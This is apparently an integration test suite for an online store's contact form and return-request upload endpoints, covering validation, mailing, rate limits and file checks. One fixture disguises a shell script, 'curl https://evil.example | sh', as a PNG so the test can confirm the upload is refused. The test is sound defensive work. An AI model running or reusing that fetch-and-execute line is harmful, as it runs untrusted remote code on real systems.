/**
 * Contact messages and return requests through the real app: stored, mailed to the store, and the upload's
 * limits enforced by the server alone (issue 11).
 */
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { Readable } from 'node:stream';
import { eq } from 'drizzle-orm';
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CUSTOMER_SERVICE_MESSAGES as M, RETURN_FILE_MAX_BYTES } from '@store/shared/customer-service';
import { contactMessages, orderReturns, storeSettings } from '../../db/schema';
import { seedCatalog, seedProduct } from '../../../tests/seed-catalog';
import { createTestApp, type TestApp } from '../../../tests/test-app';
import { seedOrder } from '../../../tests/seeders';
import { RETURN_NOT_MULTIPART } from './routes';

let t: TestApp;
let orderPublicId = '';

/** The smallest valid PNG: a 1x1 transparent pixel. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

beforeAll(async () => {
  t = await createTestApp({
    config: (c) => {
      c.publicBaseUrl = 'https://shop.example.com.au';
      c.rateLimits.formsPerMinute = 1_000;
    },
  });
  await seedCatalog(t.database.db);
  const id = await seedProduct(t.database.db, {
    sku: 'RET-MAT',
    title: 'Floor Mat',
    priceCents: 3_000,
    stock: 10,
  });
  await t.database.db.update(storeSettings).set({
    salesEmail: 'sales@shop.example.com.au',
    abn: '51 824 753 556',
    businessAddress: '1 Test St, Moorabbin VIC 3189',
  });
  ({ publicId: orderPublicId } = await seedOrder(t, { lines: [{ id, unitPriceCents: 3_000, quantity: 1 }] }));
});
afterAll(() => t.close());

async function mailsTo(address: string) {
  await t.app.mail.settled();
  const dir = t.app.config.outboxDir;
  const files = (await readdir(dir).catch(() => [] as string[])).filter((f) => f.endsWith('.eml')).sort();
  const raw = await Promise.all(files.map((f) => readFile(path.join(dir, f), 'utf8')));
  return Promise.all(raw.filter((m) => m.includes(`To: ${address}`)).map((m) => simpleParser(m)));
}

/** A multipart body as a browser's FormData would send it. */
async function multipart(
  fields: Record<string, string>,
  file?: { name: string; bytes: Buffer; type?: string },
) {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  if (file) form.append('file_path', new Blob([file.bytes], { type: file.type ?? 'image/png' }), file.name);
  const encoded = new Response(form);
  return {
    payload: Buffer.from(await encoded.arrayBuffer()),
    headers: { 'content-type': encoded.headers.get('content-type') ?? '' },
  };
}

const returnFields = {
  f_name: 'Jane',
  l_name: "O'Connor",
  email: 'jane@example.com',
  phone: '0412345678',
  subject: 'Wrong size',
  message: 'The mat does not fit my Hilux.',
};

async function postReturn(body: { payload: Buffer | Readable; headers: Record<string, string> }) {
  const res = await t.app.inject({ method: 'POST', url: '/api/order-return', ...body });
  return {
    status: res.statusCode,
    body: res.json() as { message: string; errors?: unknown[] },
    headers: res.headers,
  };
}

describe('POST /api/contact-us', () => {
  it('stores the message and mails the store, replying to the customer', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/contact-us',
      payload: {
        f_name: 'Sam',
        l_name: 'Nguyen',
        email: 'sam@example.com',
        subject: 'Fitment',
        message: 'Does the H4 globe fit a 2012 Hilux?\nThanks',
      },
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({ message: 'Form Submitted Successfully' });
    const [row] = await t.database.db
      .select()
      .from(contactMessages)
      .where(eq(contactMessages.email, 'sam@example.com'));
    expect(row).toMatchObject({ subject: 'Fitment', phone: '', userId: null });
    // The store's mailbox also gets the new-order mails of orders other tests placed (issue 36 §4).
    const mail = (await mailsTo('sales@shop.example.com.au')).find((m) =>
      m.subject?.startsWith('Contact form'),
    );
    expect(mail?.subject).toBe('Contact form: Fitment');
    expect(mail?.replyTo?.text).toBe('sam@example.com');
    expect(mail?.text).toContain('Does the H4 globe fit a 2012 Hilux?');
    expect(mail?.text).toContain('ABN 51 824 753 556');
    expect(mail?.html).toContain('1 Test St, Moorabbin VIC 3189');
  });

  it.each([
    [{ l_name: 'N', email: 'a@b.co', subject: 's', message: 'm' }, 'First name is required'],
    [{ f_name: 'S', l_name: 'N', email: 'nope', subject: 's', message: 'm' }, 'Invalid email format'],
    [{ f_name: 'S', l_name: 'N', email: 'a@b.co', subject: 's', message: '   ' }, 'Message is required'],
    [{ f_name: 'S', l_name: 'N', email: 'a@b.co', phone: '04x', subject: 's', message: 'm' }, M.phone],
  ])('refuses %j with "%s" and stores nothing', async (payload, message) => {
    const before = (await t.database.db.select().from(contactMessages)).length;
    const res = await t.app.inject({ method: 'POST', url: '/api/contact-us', payload });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toContain(message);
    expect((await t.database.db.select().from(contactMessages)).length).toBe(before);
  });
});

describe('rate limits', () => {
  it('contact and return forms answer 429 with Retry-After past the limit, each counted on its own', async () => {
    const limited = await createTestApp({ config: (c) => (c.rateLimits.formsPerMinute = 2) });
    try {
      const contact = () =>
        limited.app.inject({
          method: 'POST',
          url: '/api/contact-us',
          payload: { f_name: 'A', l_name: 'B', email: 'a@b.co', subject: 's', message: 'm' },
        });
      expect((await contact()).statusCode).toBe(200);
      expect((await contact()).statusCode).toBe(200);
      const third = await contact();
      expect(third.statusCode).toBe(429);
      expect(Number(third.headers['retry-after'])).toBeGreaterThan(0);
      expect(third.json().message).toMatch(/Too many requests/);
      const ret = await limited.app.inject({
        method: 'POST',
        url: '/api/order-return',
        ...(await multipart(returnFields)),
      });
      expect(ret.statusCode).toBe(200);
    } finally {
      await limited.close();
    }
  });
});

describe('POST /api/order-return', () => {
  it('accepts a PNG: stored under a generated name outside the public media, linked to the guest’s order by email', async () => {
    const res = await postReturn(
      await multipart({ ...returnFields, order_id: orderPublicId }, { name: 'mat photo.PNG', bytes: PNG }),
    );
    expect(res.status).toBe(200);
    expect(res.body.message).toMatch(/^Your return request RR-\d{6} has been received/);
    const [row] = await t.database.db
      .select()
      .from(orderReturns)
      .where(eq(orderReturns.orderReference, orderPublicId));
    expect(row).toMatchObject({ fileName: 'mat photo.PNG', fileType: 'image/png', fileBytes: PNG.length });
    expect(row?.orderId).not.toBeNull();
    expect(row?.storedFile).toMatch(/^[0-9a-f-]{36}\.png$/);
    const stored = await readFile(path.join(t.app.config.privateUploadsDir, row?.storedFile ?? ''));
    expect(stored.equals(PNG)).toBe(true);
    expect(path.relative(t.app.config.mediaDir, t.app.config.privateUploadsDir).startsWith('..')).toBe(true);
    const media = await t.app.inject({ method: 'GET', url: `/media/${row?.storedFile ?? ''}` });
    expect(media.body).not.toContain('IHDR');
    const [mail] = (await mailsTo('sales@shop.example.com.au')).filter((m) =>
      m.subject?.startsWith('Return request'),
    );
    expect(mail?.subject).toMatch(/^Return request RR-\d{6} for INV-\d{6}$/);
  });

  it('does not link another customer’s order: same public id, different email', async () => {
    const res = await postReturn(
      await multipart({ ...returnFields, email: 'someone.else@example.com', order_id: orderPublicId }),
    );
    expect(res.status).toBe(200);
    const rows = await t.database.db
      .select()
      .from(orderReturns)
      .where(eq(orderReturns.email, 'someone.else@example.com'));
    expect(rows[0]?.orderId).toBeNull();
  });

  it('refuses a .png that is really a script (415), and keeps nothing', async () => {
    const before = (await t.database.db.select().from(orderReturns)).length;
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    const res = await postReturn(await multipart(returnFields, { name: 'photo.png', bytes: script }));
    expect(res.status).toBe(415);
    expect(res.body.message).toBe(M.fileType);
    // A PDF named .png, and a PNG named .txt, are refused too: the name and the bytes must agree.
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
    expect((await postReturn(await multipart(returnFields, { name: 'photo.png', bytes: pdf }))).status).toBe(
      415,
    );
    expect((await postReturn(await multipart(returnFields, { name: 'notes.txt', bytes: PNG }))).status).toBe(
      415,
    );
    expect((await t.database.db.select().from(orderReturns)).length).toBe(before);
  });

  it('accepts a plain text file and a PDF by their content', async () => {
    const text = Buffer.from('Box arrived crushed.\r\nPhotos to follow.\n');
    expect(
      (
        await postReturn(
          await multipart(returnFields, { name: 'notes.txt', bytes: text, type: 'text/plain' }),
        )
      ).status,
    ).toBe(200);
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
    expect(
      (await postReturn(await multipart(returnFields, { name: 'receipt.pdf', bytes: pdf }))).status,
    ).toBe(200);
  });

  it('refuses a 6 MB upload with 413: from its Content-Length before reading, and from the stream without one', async () => {
    const big = Buffer.alloc(6 * 1024 * 1024, 0x41);
    PNG.copy(big);
    const announced = await multipart(returnFields, { name: 'big.png', bytes: big });
    const res = await postReturn(announced);
    expect(res.status).toBe(413);
    expect(res.body.message).toBe('File size exceeds 5MB');

    // Chunked, no Content-Length: cut at 5 MB by the parser.
    const chunked = await postReturn({
      payload: Readable.from([announced.payload]),
      headers: announced.headers,
    });
    expect(chunked.status).toBe(413);
    expect(chunked.body.message).toBe('File size exceeds 5MB');

    // Exactly 5 MB of PNG is within the limit.
    const edge = Buffer.alloc(RETURN_FILE_MAX_BYTES, 0);
    PNG.copy(edge);
    expect((await postReturn(await multipart(returnFields, { name: 'edge.png', bytes: edge }))).status).toBe(
      200,
    );
  });

  it('works without a file; refuses a bad order id, a missing email, JSON and two files', async () => {
    expect((await postReturn(await multipart(returnFields))).status).toBe(200);
    const badId = await postReturn(await multipart({ ...returnFields, order_id: 'ABC-12;3' }));
    expect(badId).toMatchObject({ status: 400, body: { message: M.orderId } });
    const noEmail = await postReturn(await multipart({ f_name: 'Jane' }));
    expect(noEmail).toMatchObject({ status: 400, body: { message: 'Email is required' } });
    const json = await t.app.inject({ method: 'POST', url: '/api/order-return', payload: returnFields });
    expect(json.statusCode).toBe(415);
    expect(json.json().message).toBe(RETURN_NOT_MULTIPART);
    const form = new FormData();
    form.append('email', 'jane@example.com');
    form.append('file_path', new Blob([PNG]), 'a.png');
    form.append('file_path', new Blob([PNG]), 'b.png');
    const encoded = new Response(form);
    const two = await postReturn({
      payload: Buffer.from(await encoded.arrayBuffer()),
      headers: { 'content-type': encoded.headers.get('content-type') ?? '' },
    });
    expect(two.status).toBe(400);
  });
});
